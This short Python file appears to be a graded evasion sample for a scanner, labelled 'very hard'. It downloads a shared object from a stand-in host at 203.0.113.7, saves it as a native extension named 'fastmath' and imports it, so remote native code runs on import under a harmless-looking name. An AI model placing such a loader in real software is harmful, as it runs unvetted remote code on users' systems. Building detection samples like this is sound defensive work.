# evasion: a downloaded shared object imported as an extension module
# grade: very hard; does: native
import importlib.machinery
import sys
import tempfile
import urllib.request

d = tempfile.mkdtemp()
so = d + "/fastmath" + importlib.machinery.EXTENSION_SUFFIXES[0]
with open(so, "wb") as f:
    f.write(urllib.request.urlopen("http://203.0.113.7/fm.so").read())
sys.path.insert(0, d)
import fastmath  # noqa: E402
